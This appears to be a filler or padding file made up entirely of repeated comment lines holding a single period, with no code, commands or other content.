# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
